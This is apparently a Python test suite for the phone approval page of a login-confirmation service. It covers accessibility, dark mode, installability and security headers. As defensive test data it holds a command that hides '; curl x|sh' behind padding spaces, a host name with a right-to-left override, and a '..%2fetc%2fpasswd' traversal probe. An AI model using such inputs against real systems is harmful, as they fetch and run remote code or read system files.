"""How the phone's page looks and is sent: sizes, light and dark, names for screen readers, headers."""

import unittest

from accessibility import complaints
from phone_page_case import PhonePageCase

LONG = "x" * 150

# What a screen reader would be left without, and contrasts below 4.5:1.
AUDIT = """
  const problems = [];
  const shown = (element) => element.checkVisibility();
  for (const element of document.querySelectorAll("button, input, a, summary")) {
    const label = element.getAttribute("aria-label") || element.textContent.trim() || element.labels?.[0]?.textContent.trim();
    if (shown(element) && !label) problems.push("no name: " + element.outerHTML);
  }
  for (const element of document.querySelectorAll("section")) {
    if (shown(element) && !document.getElementById(element.getAttribute("aria-labelledby"))?.textContent.trim()) {
      problems.push("no label: " + (element.id || element.className));
    }
  }
  if (document.querySelectorAll("main").length !== 1 || document.querySelectorAll("h1").length !== 1) problems.push("landmarks");
  const ids = [...document.querySelectorAll("[id]")].map(({ id }) => id);
  if (new Set(ids).size !== ids.length) problems.push("an id stands twice");
  const rgb = (text) => text.match(/[\\d.]+/g).map(Number);
  const luminance = (color) => {
    const [r, g, b] = color.map((part) => (part / 255 <= 0.03928 ? part / 255 / 12.92 : ((part / 255 + 0.055) / 1.055) ** 2.4));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const ground = (element) => {
    for (let one = element; one; one = one.parentElement) {
      const color = rgb(getComputedStyle(one).backgroundColor);
      if (color.length < 4 || color[3] > 0) return color;
    }
    return [255, 255, 255];
  };
  for (const element of document.querySelectorAll("body *")) {
    const hasText = [...element.childNodes].some((node) => node.nodeType === 3 && node.textContent.trim());
    if (!hasText || !shown(element) || element.disabled || element.matches(".unseen, noscript, noscript *")) continue;
    const [one, two] = [rgb(getComputedStyle(element).color), ground(element)].map((c) => luminance(c.slice(0, 3)));
    const contrast = (Math.max(one, two) + 0.05) / (Math.min(one, two) + 0.05);
    if (contrast < 4.5) problems.push(`contrast ${contrast.toFixed(2)}: ${element.className || element.id || element.tagName} ${element.textContent}`);
  }
  return problems;
"""


class Looks(PhonePageCase):
    def looks_well(self, name):
        """Pictures of the page as it is, and what is wrong with it."""
        self.assertEqual(self.browser.screenshot(name), [])
        for dark in (False, True):
            self.browser.dark(dark)
            self.assertEqual(self.browser.read(AUDIT), [], f"{name}, dark: {dark}")
            self.assertEqual(complaints(self.browser), [], f"{name}, dark: {dark}")
        self.browser.dark(False)

    def test_looks_well_at_each_size(self):
        self.browser.open(self.world.address + "/phone/")
        self.browser.sees("#welcome")
        self.looks_well("welcome")
        self.browser.open(self.world.link(self.user, "Alice"))
        self.browser.sees("#register")
        self.looks_well("registration")
        self.browser.tap("#register")
        self.browser.sees("#said", "phone now")
        self.connected()
        self.approved(host="build-3", service="sshd", remote_host="192.0.2.7")
        self.approved(host="laptop")
        self.sessions_shown(2)
        self.browser.open(self.world.address + "/phone/")
        self.connected()
        self.sessions_shown(2)
        self.looks_well("home")
        self.world.sign_in(self.user, user="alice", remote_host="192.0.2.7", command="apt upgrade")
        self.card()
        self.looks_well("request")
        self.browser.tap(".request .not-me")
        self.browser.sees("#blocked")
        self.looks_well("not-me")
        self.browser.tap(".account summary")
        self.browser.tap(".unregister")
        self.browser.sees("#sure")
        self.looks_well("unregister")

    def test_the_judge_sees_what_is_wrong(self):
        self.browser.open(self.world.address + "/phone/")
        self.browser.sees("#welcome")
        self.assertEqual(complaints(self.browser), [])
        self.browser.script("""
          const add = (name) => document.querySelector("main").appendChild(document.createElement(name));
          add("button");
          add("input");
          const pale = add("p");
          pale.textContent = "pale";
          Object.assign(pale.style, { color: "#bbb", background: "#fff" });
        """)
        found = {one.partition(":")[0] for one in complaints(self.browser)}
        self.assertLessEqual({"button-name", "label", "color-contrast"}, found)

    def test_holds_long_words(self):
        self.register(name="A" * 100)
        self.world.sign_in(self.user, host=LONG, service=LONG, tty=LONG, remote_host=LONG, command=LONG)
        self.card()
        self.looks_well("long-words")
        self.browser.open(self.world.address + "/register/" + "0" * 32)
        self.browser.sees("#registration-text", "invalid")
        self.looks_well("bad-link")

    def test_shows_what_would_not_be_seen(self):
        self.register()
        self.world.sign_in(self.user, command="sh -c 'apt upgrade" + " " * 190 + "; curl x|sh'", remote_host="192.0.2.7\u202e")
        self.card()
        self.looks_well("named")
        self.browser.tap(".request .deny")
        self.browser.misses(".request")
        self.world.sign_in(self.user, command="/usr/bin/install " + "a-file " * 300)
        self.card()
        self.looks_well("long-command")
        self.browser.tap(".request .deny")
        self.browser.misses(".request")
        self.world.sign_in(
            self.user, host="shop", service=None, user=None, tty=None, amount="20 EUR",
            beneficiary_account_of_the_payment="DE02 1203 0000 0000 2020 51")  # fmt: skip
        self.card()
        self.looks_well("transaction")

    def test_works_by_keyboard_alone(self):
        self.register()
        sign_in = self.world.sign_in(self.user)
        self.card()
        self.type_code(sign_in)
        self.on_card("", ".approve", lambda button: button.send_keys("\ue007"))
        sign_in.becomes("active")


class Installing(PhonePageCase):
    """As Chromium, which alone tells, judges it."""

    def test_can_be_installed(self):
        self.browser.open(self.world.address + "/phone/")
        manifest = self.browser.cdp("Page.getAppManifest")
        self.assertEqual(manifest["errors"], [])
        self.assertTrue(manifest["url"].endswith("/phone/phone.webmanifest"))
        self.assertEqual(self.browser.cdp("Page.getInstallabilityErrors")["installabilityErrors"], [])


class Headers(PhonePageCase):
    def test_is_sent_with_a_strict_policy(self):
        for path in ("/phone/", "/register/" + "0" * 32, "/phone/app.js", "/phone/service-worker.js"):
            status, headers, _ = self.world.fetch(path, Accept="text/html")
            self.assertEqual(status, 200)
            policy = dict(rule.strip().split(" ", 1) for rule in headers["Content-Security-Policy"].split(";"))
            self.assertEqual(policy["default-src"], "'none'")
            for part in ("script", "style", "img", "connect", "manifest", "worker"):
                self.assertEqual(policy[part + "-src"], "'self'")
            for part in ("frame-ancestors", "base-uri", "form-action"):
                self.assertEqual(policy[part], "'none'")
            self.assertEqual(headers["X-Content-Type-Options"], "nosniff")
            self.assertEqual(headers["Referrer-Policy"], "no-referrer")
            self.assertEqual(headers["Cross-Origin-Opener-Policy"], "same-origin")
            # Other ports of this name are not the service's to close.
            self.assertIsNone(headers["Strict-Transport-Security"])

    def test_gives_programs_the_link_as_json(self):
        path = self.world.link(self.user).removeprefix(self.world.address)
        for accept in ({}, {"Accept": "application/json"}, {"Accept": "*/*"}):
            status, headers, body = self.world.fetch(path, **accept)
            self.assertEqual((status, headers["Content-Type"]), (200, "application/json"))
            self.assertIn(b"seconds_left", body)

    def test_sends_a_file_once(self):
        _, headers, body = self.world.fetch("/phone/app.js")
        self.assertGreater(len(body), 1000)
        status, _, body = self.world.fetch("/phone/app.js", **{"If-None-Match": headers["ETag"]})
        self.assertEqual((status, body), (304, b""))

    def test_has_no_other_files(self):
        for path in ("/phone/nothing.js", "/phone/..%2f..%2fetc%2fpasswd", "/phone/phone.html/x"):
            self.assertEqual(self.world.fetch(path)[0], 404)
        status, headers, _ = self.world.fetch("/phone")
        self.assertEqual((status, headers["Location"]), (302, self.world.address + "/phone/"))


if __name__ == "__main__":
    unittest.main()
